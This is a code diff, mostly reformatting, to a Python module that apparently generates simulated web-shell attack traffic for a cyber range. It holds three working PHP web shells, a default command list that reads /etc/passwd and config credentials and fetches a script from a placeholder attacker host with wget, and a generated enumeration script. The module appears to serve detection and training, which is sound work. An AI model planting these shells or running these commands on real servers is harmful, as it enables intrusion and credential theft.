@@ -28,20 +28,21 @@ from typing import Literal
 from pydantic import Field, field_validator
 
 from attack_scripts import _http
-from range.core.schema import Strict
-from range.traffic.techniques import StepContext, Technique, technique
-from range.traffic.actions import TcpSession
+from range.core import Strict
+from range.traffic import StepContext, TcpSession, Technique, technique
 
 DEFAULT_COMMANDS = ["whoami", "id", "uname -a", "pwd", "ls -la", "cat /etc/passwd", "cat ../config.php", "ps aux",
                     "ss -tlnp", "wget http://{attacker}:8000/lse.sh -O /tmp/lse.sh", "ls -la /tmp"]
 
 SHELLS = {
     "one-liner": b"<?php system($_REQUEST['cmd']); ?>\n",
-    "simple-backdoor": (b"<!-- Simple PHP backdoor by DK (http://michaeldaw.org) -->\n\n<?php\n\nif(isset($_REQUEST['cmd'])){\n"
-                        b"        echo \"<pre>\";\n        $cmd = ($_REQUEST['cmd']);\n        system($cmd);\n"
-                        b"        echo \"</pre>\";\n        die;\n}\n\n?>\n\n"
-                        b"Usage: http://target.com/simple-backdoor.php?cmd=cat+/etc/passwd\n\n"
-                        b"<!--    http://michaeldaw.org   2006    -->\n"),
+    "simple-backdoor": (
+        b"<!-- Simple PHP backdoor by DK (http://michaeldaw.org) -->\n\n<?php\n\nif(isset($_REQUEST['cmd'])){\n"
+        b"        echo \"<pre>\";\n        $cmd = ($_REQUEST['cmd']);\n        system($cmd);\n"
+        b'        echo "</pre>";\n        die;\n}\n\n?>\n\n'
+        b"Usage: http://target.com/simple-backdoor.php?cmd=cat+/etc/passwd\n\n"
+        b"<!--    http://michaeldaw.org   2006    -->\n"
+    ),
     "plain": b"<?php header('Content-Type: text/plain; charset=UTF-8'); echo shell_exec($_GET['cmd'] . ' 2>&1'); ?>\n",
 }
 
@@ -53,13 +54,22 @@ CLOSE_IDLE = (0.5, 3.0)
 
 
 class Params(Strict):
-    commands: list[str] = Field(default=DEFAULT_COMMANDS, min_length=1, max_length=200,
-                                description="shell commands run through the web shell in order; {attacker} is the "
-                                            "intruder's address")
+    commands: list[str] = Field(
+        default=DEFAULT_COMMANDS,
+        min_length=1,
+        max_length=200,
+        description="shell commands run through the web shell in order; {attacker} is the intruder's address",
+    )
     interval: float = Field(default=8.0, gt=0, le=600, description="mean seconds between commands (each 0.5x to 1.5x)")
-    shell: Literal["one-liner", "simple-backdoor", "plain"] = Field(default="one-liner", description="the PHP shell uploaded")
-    upload_path: str = Field(default="/upload.php", max_length=200, pattern=r"^/[A-Za-z0-9._~/-]*\.php$", description="the upload form")
-    upload_dir: str = Field(default="/uploads/", max_length=200, pattern=r"^/([A-Za-z0-9._~-]+/)*$", description="where uploads are served")
+    shell: Literal["one-liner", "simple-backdoor", "plain"] = Field(
+        default="one-liner", description="the PHP shell uploaded"
+    )
+    upload_path: str = Field(
+        default="/upload.php", max_length=200, pattern=r"^/[A-Za-z0-9._~/-]*\.php$", description="the upload form"
+    )
+    upload_dir: str = Field(
+        default="/uploads/", max_length=200, pattern=r"^/([A-Za-z0-9._~-]+/)*$", description="where uploads are served"
+    )
 
     @field_validator("commands")
     @classmethod
@@ -92,8 +102,10 @@ class _Box:
         self.admin_name = " ".join(p.capitalize() for p in ctx.names.username().split("."))
         self.db_pass = ctx.names.token(16)
         self.shell_name, self.shell_size, self.t_upload = shell_name, shell_size, t_upload
-        self.uploads = [(f"scan_{r.randint(10000, 99999)}.{ext}", r.randint(80000, 2400000), t_upload - r.uniform(3600, 30 * 86400))
-                        for ext in r.choices(["jpg", "pdf", "png"], k=r.randint(3, 7))]
+        self.uploads = [
+            (f"scan_{r.randint(10000, 99999)}.{ext}", r.randint(80000, 2400000), t_upload - r.uniform(3600, 30 * 86400))
+            for ext in r.choices(["jpg", "pdf", "png"], k=r.randint(3, 7))
+        ]
         net = ctx.layout.network_of(self.host.ip)
         self.prefix = ctx.layout.subnets[net].prefixlen if net else 24
         self.pids = sorted(r.sample(range(300, 2000), 12))
@@ -114,8 +126,10 @@ class _Box:
         if c.startswith("uname"):
             if c == "uname":
                 return "Linux\n", ""
-            return (f"Linux {h.hostname} 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.112-1 (2024-09-30) "
-                    "x86_64 GNU/Linux\n"), ""
+            return (
+                f"Linux {h.hostname} 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.112-1 (2024-09-30) "
+                "x86_64 GNU/Linux\n"
+            ), ""
         if c == "pwd":
             return "/var/www/html/uploads\n", ""
         if head == "ls":
@@ -125,30 +139,38 @@ class _Box:
         if c in ("cat /etc/os-release", "cat /etc/issue"):
             if c.endswith("issue"):
                 return "Debian GNU/Linux 12 \\n \\l\n\n", ""
-            return ('PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\n'
-                    'VERSION="12 (bookworm)"\nVERSION_CODENAME=bookworm\nID=debian\nHOME_URL="https://www.debian.org/"\n'
-                    'SUPPORT_URL="https://www.debian.org/support"\nBUG_REPORT_URL="https://bugs.debian.org/"\n'), ""
+            return (
+                'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\n'
+                'VERSION="12 (bookworm)"\nVERSION_CODENAME=bookworm\nID=debian\nHOME_URL="https://www.debian.org/"\n'
+                'SUPPORT_URL="https://www.debian.org/support"\nBUG_REPORT_URL="https://bugs.debian.org/"\n'
+            ), ""
         if head == "cat" and len(words) > 1 and words[1].endswith("config.php"):
-            return ("<?php\n// Portal configuration\ndefine('SITE_NAME', '" + _http.site_name(self.ctx.domain) + "');\n"
-                    "$db_host = 'localhost';\n$db_name = 'portal';\n$db_user = 'portal_app';\n"
-                    f"$db_pass = '{self.db_pass}';\n\n$db = new mysqli($db_host, $db_user, $db_pass, $db_name);\n"
-                    "$db->set_charset('utf8mb4');\n"), ""
+            return (
+                "<?php\n// Portal configuration\ndefine('SITE_NAME', '" + _http.site_name(self.ctx.domain) + "');\n"
+                "$db_host = 'localhost';\n$db_name = 'portal';\n$db_user = 'portal_app';\n"
+                f"$db_pass = '{self.db_pass}';\n\n$db = new mysqli($db_host, $db_user, $db_pass, $db_name);\n"
+                "$db->set_charset('utf8mb4');\n"
+            ), ""
         if c.startswith("ps"):
             return self.ps(now), ""
         if c.startswith("ss ") or c.startswith("netstat"):
-            return ("State  Recv-Q Send-Q Local Address:Port  Peer Address:PortProcess\n"
-                    "LISTEN 0      511          0.0.0.0:80         0.0.0.0:*          \n"
-                    "LISTEN 0      128          0.0.0.0:22         0.0.0.0:*          \n"
-                    "LISTEN 0      80         127.0.0.1:3306       0.0.0.0:*          \n"
-                    "LISTEN 0      511             [::]:80            [::]:*          \n"
-                    "LISTEN 0      128             [::]:22            [::]:*          \n"), ""
+            return (
+                "State  Recv-Q Send-Q Local Address:Port  Peer Address:PortProcess\n"
+                "LISTEN 0      511          0.0.0.0:80         0.0.0.0:*          \n"
+                "LISTEN 0      128          0.0.0.0:22         0.0.0.0:*          \n"
+                "LISTEN 0      80         127.0.0.1:3306       0.0.0.0:*          \n"
+                "LISTEN 0      511             [::]:80            [::]:*          \n"
+                "LISTEN 0      128             [::]:22            [::]:*          \n"
+            ), ""
         if c in ("ip a", "ip addr", "ifconfig", "ip -4 a"):
-            return ("1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN group default qlen 1000\n"
-                    "    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00\n    inet 127.0.0.1/8 scope host lo\n"
-                    "       valid_lft forever preferred_lft forever\n"
-                    "2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc fq_codel state UP group default qlen 1000\n"
-                    f"    link/ether {h.mac} brd ff:ff:ff:ff:ff:ff\n"
-                    f"    inet {h.ip}/{self.prefix} brd + scope global eth0\n       valid_lft forever preferred_lft forever\n"), ""
+            return (
+                "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN group default qlen 1000\n"
+                "    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00\n    inet 127.0.0.1/8 scope host lo\n"
+                "       valid_lft forever preferred_lft forever\n"
+                "2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc fq_codel state UP group default qlen 1000\n"
+                f"    link/ether {h.mac} brd ff:ff:ff:ff:ff:ff\n"
+                f"    inet {h.ip}/{self.prefix} brd + scope global eth0\n       valid_lft forever preferred_lft forever\n"  # noqa: E501
+            ), ""
         if head in ("wget", "curl"):
             if download is None:
                 return "", f"{head}: unable to resolve host address\n" if head == "wget" else ""
@@ -160,11 +182,13 @@ class _Box:
             if dest.startswith("/tmp/") and "/" not in dest[5:]:
                 self.tmp.append((dest[5:], size, now))
             stamp = time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(now))
-            return "", (f"--{stamp}--  {url}\nConnecting to {url.split('/')[2]}... connected.\n"
-                        f"HTTP request sent, awaiting response... 200 OK\nLength: {size} ({size / 1024:.1f}K) [application/x-sh]\n"
-                        f"Saving to: '{dest}'\n\n     0K {'.' * max(1, size // 1024)}{' ' * max(1, 50 - size // 1024)}100%  "
-                        f"{self.r.randint(80, 600)}M=0s\n\n"
-                        f"{stamp} ({self.r.randint(80, 600)} MB/s) - '{dest}' saved [{size}/{size}]\n\n")
+            return "", (
+                f"--{stamp}--  {url}\nConnecting to {url.split('/')[2]}... connected.\n"
+                f"HTTP request sent, awaiting response... 200 OK\nLength: {size} ({size / 1024:.1f}K) [application/x-sh]\n"  # noqa: E501
+                f"Saving to: '{dest}'\n\n     0K {'.' * max(1, size // 1024)}{' ' * max(1, 50 - size // 1024)}100%  "
+                f"{self.r.randint(80, 600)}M=0s\n\n"
+                f"{stamp} ({self.r.randint(80, 600)} MB/s) - '{dest}' saved [{size}/{size}]\n\n"
+            )
         if head in ("chmod", "cd", "mkdir", "rm", "touch", "cp", "mv", "echo", "export", "nohup", "sh", "bash"):
             if head == "echo":
                 return " ".join(words[1:]).strip("'\"") + "\n", ""
@@ -176,64 +200,114 @@ class _Box:
         where = next((a for a in args if not a.startswith("-")), ".")
         if where in ("/tmp", "/tmp/"):
             files = list(self.tmp)
-            entries = [("drwxrwxrwt", "root", "root", 4096, now - 60, "."), ("drwxr-xr-x", "root", "root", 4096, now - 9e6, "..")]
+            entries = [
+                ("drwxrwxrwt", "root", "root", 4096, now - 60, "."),
+                ("drwxr-xr-x", "root", "root", 4096, now - 9e6, ".."),
+            ]
             entries += [("-rw-r--r--", "www-data", "www-data", s, t, n) for n, s, t in files]
         elif where in ("..", "../", "/var/www/html", "/var/www/html/"):
-            names = ["api", "assets", "config.php", "contact.php", "docs.php", "favicon.ico", "files", "index.php",
-                     "login.php", "news.php", "search.php", "upload.php", "uploads"]
-            entries = [("drwxr-xr-x", "www-data", "www-data", 4096, now - 9e5, "."),
-                       ("drwxr-xr-x", "root", "root", 4096, now - 9e6, "..")]
+            names = [
+                "api",
+                "assets",
+                "config.php",
+                "contact.php",
+                "docs.php",
+                "favicon.ico",
+                "files",
+                "index.php",
+                "login.php",
+                "news.php",
+                "search.php",
+                "upload.php",
+                "uploads",
+            ]
+            entries = [
+                ("drwxr-xr-x", "www-data", "www-data", 4096, now - 9e5, "."),
+                ("drwxr-xr-x", "root", "root", 4096, now - 9e6, ".."),
+            ]
             for n in names:
                 d = "." not in n
-                entries.append(("drwxr-xr-x" if d else "-rw-r--r--", "www-data", "www-data",
-                                4096 if d else 800 + (sum(map(ord, n)) * 37) % 9000, now - 86400 * 20, n))
+                entries.append(
+                    (
+                        "drwxr-xr-x" if d else "-rw-r--r--",
+                        "www-data",
+                        "www-data",
+                        4096 if d else 800 + (sum(map(ord, n)) * 37) % 9000,
+                        now - 86400 * 20,
+                        n,
+                    )
+                )
         else:
-            entries = [("drwxrwxr-x", "www-data", "www-data", 4096, self.t_upload, "."),
-                       ("drwxr-xr-x", "www-data", "www-data", 4096, now - 9e5, "..")]
+            entries = [
+                ("drwxrwxr-x", "www-data", "www-data", 4096, self.t_upload, "."),
+                ("drwxr-xr-x", "www-data", "www-data", 4096, now - 9e5, ".."),
+            ]
             entries += [("-rw-r--r--", "www-data", "www-data", s, t, n) for n, s, t in self.uploads]
             entries.append(("-rw-r--r--", "www-data", "www-data", self.shell_size, self.t_upload, self.shell_name))
             entries = entries[:2] + sorted(entries[2:], key=lambda e: e[5])
         if not long:
             return "".join(f"{e[5]}\n" for e in entries[2:])
         total = sum(max(4, e[3] // 1024) for e in entries)
-        return f"total {total}\n" + "".join(f"{m} {2 if m[0] == 'd' else 1} {u:<8} {g:<8} {s:>8} {_when(t)} {n}\n"
-                                            for m, u, g, s, t, n in entries)
+        return f"total {total}\n" + "".join(
+            f"{m} {2 if m[0] == 'd' else 1} {u:<8} {g:<8} {s:>8} {_when(t)} {n}\n" for m, u, g, s, t, n in entries
+        )
 
     def passwd(self) -> str:
-        return ("root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
-                "bin:x:2:2:bin:/bin:/usr/sbin/nologin\nsys:x:3:3:sys:/dev:/usr/sbin/nologin\nsync:x:4:65534:sync:/bin:/bin/sync\n"
-                "games:x:5:60:games:/usr/games:/usr/sbin/nologin\nman:x:6:12:man:/var/cache/man:/usr/sbin/nologin\n"
-                "lp:x:7:7:lp:/var/spool/lpd:/usr/sbin/nologin\nmail:x:8:8:mail:/var/mail:/usr/sbin/nologin\n"
-                "news:x:9:9:news:/var/spool/news:/usr/sbin/nologin\nuucp:x:10:10:uucp:/var/spool/uucp:/usr/sbin/nologin\n"
-                "proxy:x:13:13:proxy:/bin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
-                "backup:x:34:34:backup:/var/backups:/usr/sbin/nologin\nlist:x:38:38:Mailing List Manager:/var/list:/usr/sbin/nologin\n"
-                "irc:x:39:39:ircd:/run/ircd:/usr/sbin/nologin\n_apt:x:42:65534::/nonexistent:/usr/sbin/nologin\n"
-                "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n"
-                "systemd-network:x:998:998:systemd Network Management:/:/usr/sbin/nologin\n"
-                "messagebus:x:100:107::/nonexistent:/usr/sbin/nologin\nsshd:x:101:65534::/run/sshd:/usr/sbin/nologin\n"
-                "mysql:x:102:110:MariaDB Server,,,:/nonexistent:/bin/false\n"
-                f"{self.admin}:x:1000:1000:{self.admin_name},,,:/home/{self.admin}:/bin/bash\n")
+        return (
+            "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
+            "bin:x:2:2:bin:/bin:/usr/sbin/nologin\nsys:x:3:3:sys:/dev:/usr/sbin/nologin\nsync:x:4:65534:sync:/bin:/bin/sync\n"
+            "games:x:5:60:games:/usr/games:/usr/sbin/nologin\nman:x:6:12:man:/var/cache/man:/usr/sbin/nologin\n"
+            "lp:x:7:7:lp:/var/spool/lpd:/usr/sbin/nologin\nmail:x:8:8:mail:/var/mail:/usr/sbin/nologin\n"
+            "news:x:9:9:news:/var/spool/news:/usr/sbin/nologin\nuucp:x:10:10:uucp:/var/spool/uucp:/usr/sbin/nologin\n"
+            "proxy:x:13:13:proxy:/bin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
+            "backup:x:34:34:backup:/var/backups:/usr/sbin/nologin\nlist:x:38:38:Mailing List Manager:/var/list:/usr/sbin/nologin\n"  # noqa: E501
+            "irc:x:39:39:ircd:/run/ircd:/usr/sbin/nologin\n_apt:x:42:65534::/nonexistent:/usr/sbin/nologin\n"
+            "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n"
+            "systemd-network:x:998:998:systemd Network Management:/:/usr/sbin/nologin\n"
+            "messagebus:x:100:107::/nonexistent:/usr/sbin/nologin\nsshd:x:101:65534::/run/sshd:/usr/sbin/nologin\n"
+            "mysql:x:102:110:MariaDB Server,,,:/nonexistent:/bin/false\n"
+            f"{self.admin}:x:1000:1000:{self.admin_name},,,:/home/{self.admin}:/bin/bash\n"
+        )
 
     def ps(self, now: float) -> str:
         p = self.pids
         boot = _when(now - 86400 * 12).split(" ", 2)
         start = f"{boot[0]}{boot[1]}"
-        rows = [("root", 1, "0.0", "0.1", 167744, 12920, "Ss", "/sbin/init"),
-                ("root", p[0], "0.0", "0.1", 15420, 9320, "Ss", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
-                ("root", p[1], "0.0", "0.0", 6612, 2720, "Ss", "/usr/sbin/cron -f"),
-                ("mysql", p[2], "0.1", "2.6", 1361732, 104880, "Ssl", "/usr/sbin/mariadbd"),
-                ("root", p[3], "0.0", "0.5", 203348, 22488, "Ss", "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"),
-                ("www-data", p[4], "0.0", "0.3", 203940, 14196, "S", "php-fpm: pool www"),
-                ("www-data", p[5], "0.0", "0.3", 203940, 14204, "S", "php-fpm: pool www"),
-                ("root", p[6], "0.0", "0.0", 10376, 1432, "Ss",
-                 "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;"),
-                ("www-data", p[7], "0.0", "0.1", 11064, 4356, "S", "nginx: worker process"),
-                ("www-data", p[8], "0.0", "0.1", 11064, 4356, "S", "nginx: worker process"),
-                ("www-data", p[11] + 4000, "0.0", "0.0", 2580, 904, "S", "sh -c ps aux"),
-                ("www-data", p[11] + 4001, "0.0", "0.0", 11084, 4488, "R", "ps aux")]
+        rows = [
+            ("root", 1, "0.0", "0.1", 167744, 12920, "Ss", "/sbin/init"),
+            ("root", p[0], "0.0", "0.1", 15420, 9320, "Ss", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
+            ("root", p[1], "0.0", "0.0", 6612, 2720, "Ss", "/usr/sbin/cron -f"),
+            ("mysql", p[2], "0.1", "2.6", 1361732, 104880, "Ssl", "/usr/sbin/mariadbd"),
+            (
+                "root",
+                p[3],
+                "0.0",
+                "0.5",
+                203348,
+                22488,
+                "Ss",
+                "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)",
+            ),
+            ("www-data", p[4], "0.0", "0.3", 203940, 14196, "S", "php-fpm: pool www"),
+            ("www-data", p[5], "0.0", "0.3", 203940, 14204, "S", "php-fpm: pool www"),
+            (
+                "root",
+                p[6],
+                "0.0",
+                "0.0",
+                10376,
+                1432,
+                "Ss",
+                "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;",
+            ),
+            ("www-data", p[7], "0.0", "0.1", 11064, 4356, "S", "nginx: worker process"),
+            ("www-data", p[8], "0.0", "0.1", 11064, 4356, "S", "nginx: worker process"),
+            ("www-data", p[11] + 4000, "0.0", "0.0", 2580, 904, "S", "sh -c ps aux"),
+            ("www-data", p[11] + 4001, "0.0", "0.0", 11084, 4488, "R", "ps aux"),
+        ]
         out = "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\n"
         for u, pid, cpu, mem, vsz, rss, st, cmd in rows:
-            out += f"{u:<10}{pid:>6} {cpu:>4} {mem:>4} {vsz:>6} {rss:>5} ?        {st:<4} {start:<5}   0:0{pid % 10} {cmd}\n"
+            out += f"{u:<10}{pid:>6} {cpu:>4} {mem:>4} {vsz:>6} {rss:>5} ?        {st:<4} {start:<5}   0:0{pid % 10} {cmd}\n"  # noqa: E501
         return out
 
 
@@ -248,15 +322,27 @@ def _download_url(cmd: str, attacker: str) -> tuple[str, str, int, str] | None:
 
 
 def _script(r, name: str) -> bytes:
-    checks = ["uname -a", "cat /etc/os-release", "id", "sudo -n -l 2>/dev/null", "find / -perm -4000 -type f 2>/dev/null",
-              "ls -la /etc/cron* 2>/dev/null", "ss -tlnp 2>/dev/null", "cat /etc/passwd | grep sh$",
-              "find /var/www -name '*.php' -exec grep -l 'pass' {} \\; 2>/dev/null", "getcap -r / 2>/dev/null",
-              "ls -la /home/*/ 2>/dev/null", "env | grep -i pass", "mount", "ps aux | grep root"]
-    out = f"#!/bin/sh\n# {name} - local enumeration\n\nprint_title() {{ printf '\\n\\033[1;34m[+] %s\\033[0m\\n' \"$1\"; }}\n\n"
+    checks = [
+        "uname -a",
+        "cat /etc/os-release",
+        "id",
+        "sudo -n -l 2>/dev/null",
+        "find / -perm -4000 -type f 2>/dev/null",
+        "ls -la /etc/cron* 2>/dev/null",
+        "ss -tlnp 2>/dev/null",
+        "cat /etc/passwd | grep sh$",
+        "find /var/www -name '*.php' -exec grep -l 'pass' {} \\; 2>/dev/null",
+        "getcap -r / 2>/dev/null",
+        "ls -la /home/*/ 2>/dev/null",
+        "env | grep -i pass",
+        "mount",
+        "ps aux | grep root",
+    ]
+    out = f"#!/bin/sh\n# {name} - local enumeration\n\nprint_title() {{ printf '\\n\\033[1;34m[+] %s\\033[0m\\n' \"$1\"; }}\n\n"  # noqa: E501
     i = 0
     while len(out) < r.randint(9000, 16000):
         c = checks[i % len(checks)]
-        out += f"print_title \"check {i + 1}: {c.split()[0]}\"\n{c}\n\n"
+        out += f'print_title "check {i + 1}: {c.split()[0]}"\n{c}\n\n'
         i += 1
     return out.encode()
 
@@ -274,7 +360,9 @@ class Webshell(Technique):
 
     def duration(self, p: Params) -> float:
         commands = len(p.commands) * (1.5 * p.interval + COMMAND_MAX)
-        return max(PAGE_LOAD_MAX + FORM_FILL[1] + 0.5 + commands + CLOSE_IDLE[1], PAGE_LOAD_MAX + KEEPALIVE_TIMEOUT) + 1.0
+        return (
+            max(PAGE_LOAD_MAX + FORM_FILL[1] + 0.5 + commands + CLOSE_IDLE[1], PAGE_LOAD_MAX + KEEPALIVE_TIMEOUT) + 1.0
+        )
 
     def generate(self, ctx: StepContext):
         p: Params = ctx.params
@@ -296,9 +384,17 @@ class Webshell(Technique):
 
         # the form page, then its assets over a second parallel connection as well
         conn = fresh(ctx.t0)
-        conn.exchange(b.request("GET", host, p.upload_path), lambda w: _http.php(
-            200, w, _http.upload_form_html(ctx.domain), extra=[("Set-Cookie", f"{cookie}; path=/")] + _http.PHP_SESSION_HEADERS),
-            0.0, r.uniform(0.004, 0.02))
+        conn.exchange(
+            b.request("GET", host, p.upload_path),
+            lambda w: _http.php(
+                200,
+                w,
+                _http.upload_form_html(ctx.domain),
+                extra=[("Set-Cookie", f"{cookie}; path=/")] + _http.PHP_SESSION_HEADERS,
+            ),
+            0.0,
+            r.uniform(0.004, 0.02),
+        )
         page_at = conn.now
         side = fresh(page_at + r.uniform(0.001, 0.004))
         main_assets = ["/assets/css/main.css?v=3.2.1", "/assets/js/app.js?v=3.2.1", "/favicon.ico"]
@@ -306,8 +402,14 @@ class Webshell(Technique):
         for lane, paths in ((conn, main_assets), (side, side_assets)):
             for i, path in enumerate(paths):
                 a = assets[path]
-                req = b.request("GET", host, path, kind=a.kind, referer=None if path == "/favicon.ico" else origin + p.upload_path,
-                                cookie=cookie)
+                req = b.request(
+                    "GET",
+                    host,
+                    path,
+                    kind=a.kind,
+                    referer=None if path == "/favicon.ico" else origin + p.upload_path,
+                    cookie=cookie,
+                )
                 think = 0.0 if i == 0 and lane is side else r.uniform(0.001, 0.006)
                 lane.exchange(req, lambda w, a=a: _http.nginx_static(w, a), think, r.uniform(0.0005, 0.002))
         side.idle(KEEPALIVE_TIMEOUT)
@@ -316,16 +418,37 @@ class Webshell(Technique):
 
         # the upload
         boundary = _http.firefox_boundary(r)
-        body = _http.multipart(boundary, [("reference", None, None, str(r.randint(100000, 999999)).encode()),
-                                          ("document", shell_name, "application/x-httpd-php", shell),
-                                          ("submit", None, None, b"Upload")])
-        req = b.request("POST", host, p.upload_path, body=body, content_type=f"multipart/form-data; boundary={boundary}",
-                        origin=origin, referer=origin + p.upload_path, cookie=cookie)
+        body = _http.multipart(
+            boundary,
+            [
+                ("reference", None, None, str(r.randint(100000, 999999)).encode()),
+                ("document", shell_name, "application/x-httpd-php", shell),
+                ("submit", None, None, b"Upload"),
+            ],
+        )
+        req = b.request(
+            "POST",
+            host,
+            p.upload_path,
+            body=body,
+            content_type=f"multipart/form-data; boundary={boundary}",
+            origin=origin,
+            referer=origin + p.upload_path,
+            cookie=cookie,
+        )
         fill = r.uniform(*FORM_FILL)
-        done = (f'<div class="alert alert-success">File <a href="{p.upload_dir}{shell_name}">{shell_name}</a> '
-                "has been uploaded. Thank you.</div>\n")
-        conn.exchange(req, lambda w: _http.php(200, w, _http.upload_form_html(ctx.domain, notice=done),
-                                               extra=_http.PHP_SESSION_HEADERS), fill, r.uniform(0.006, 0.03))
+        done = (
+            f'<div class="alert alert-success">File <a href="{p.upload_dir}{shell_name}">{shell_name}</a> '
+            "has been uploaded. Thank you.</div>\n"
+        )
+        conn.exchange(
+            req,
+            lambda w: _http.php(
+                200, w, _http.upload_form_html(ctx.domain, notice=done), extra=_http.PHP_SESSION_HEADERS
+            ),
+            fill,
+            r.uniform(0.006, 0.03),
+        )
         box = _Box(ctx, shell_name, len(shell), conn.now)
 
         # the commands
@@ -349,8 +472,15 @@ class Webshell(Technique):
             download = None
             if dl is not None:
                 url, dhost, dport, dpath = dl
-                fetch, size = self._fetch(ctx, target.ip, dhost, dport, dpath, sent + r.uniform(0.003, 0.01),
-                                          "curl" if cmd.lstrip().startswith("curl") else "wget")
+                fetch, size = self._fetch(
+                    ctx,
+                    target.ip,
+                    dhost,
+                    dport,
+                    dpath,
+                    sent + r.uniform(0.003, 0.01),
+                    "curl" if cmd.lstrip().startswith("curl") else "wget",
+                )
                 out.append(fetch)
                 download = (url, size)
                 latency = (_end_of(fetch) - sent) + r.uniform(0.002, 0.01)
@@ -368,25 +498,50 @@ class Webshell(Technique):
         if shell == "plain":
             return _http.php(200, when, stdout + stderr, content_type="text/plain; charset=UTF-8")
         if shell == "simple-backdoor":
-            return _http.php(200, when, "<!-- Simple PHP backdoor by DK (http://michaeldaw.org) -->\n\n<pre>" + stdout + "</pre>")
+            return _http.php(
+                200, when, "<!-- Simple PHP backdoor by DK (http://michaeldaw.org) -->\n\n<pre>" + stdout + "</pre>"
+            )
         return _http.php(200, when, stdout)
 
     @staticmethod
-    def _fetch(ctx: StepContext, client: str, server: str, port: int, path: str, t: float, tool: str) -> tuple[TcpSession, int]:
+    def _fetch(
+        ctx: StepContext, client: str, server: str, port: int, path: str, t: float, tool: str
+    ) -> tuple[TcpSession, int]:
         """The web server fetching the intruder's file from ``python3 -m http.server``."""
         r = ctx.rng
         body = _script(r, path.rsplit("/", 1)[-1] or "index")
         hostport = server if port == 80 else f"{server}:{port}"
         if tool == "wget":
-            req = _http.request("GET", path, [("Host", hostport), ("User-Agent", _http.WGET_UA), ("Accept", "*/*"),
-                                              ("Accept-Encoding", "identity"), ("Connection", "Keep-Alive")])
+            req = _http.request(
+                "GET",
+                path,
+                [
+                    ("Host", hostport),
+                    ("User-Agent", _http.WGET_UA),
+                    ("Accept", "*/*"),
+                    ("Accept-Encoding", "identity"),
+                    ("Connection", "Keep-Alive"),
+                ],
+            )
         else:
             req = _http.request("GET", path, [("Host", hostport), ("User-Agent", "curl/7.88.1"), ("Accept", "*/*")])
         conn = _http.Conn(t, client, server, r.randint(32768, 60999), dport=port, rtt=_http.lan_rtt(r))
-        conn.exchange(req, lambda w: _http.response(200, [
-            ("Server", "SimpleHTTP/0.6 Python/3.11.8"), ("Date", _http.http_date(w)), ("Content-type", "application/x-sh"),
-            ("Content-Length", str(len(body))), ("Last-Modified", _http.http_date(w - r.uniform(60, 900)))], body),
-            0.0, r.uniform(0.0008, 0.003))
+        conn.exchange(
+            req,
+            lambda w: _http.response(
+                200,
+                [
+                    ("Server", "SimpleHTTP/0.6 Python/3.11.8"),
+                    ("Date", _http.http_date(w)),
+                    ("Content-type", "application/x-sh"),
+                    ("Content-Length", str(len(body))),
+                    ("Last-Modified", _http.http_date(w - r.uniform(60, 900))),
+                ],
+                body,
+            ),
+            0.0,
+            r.uniform(0.0008, 0.003),
+        )
         conn.close = "server_fin"  # HTTP/1.0 server: it closes after the answer
         return conn.session(), len(body)
 
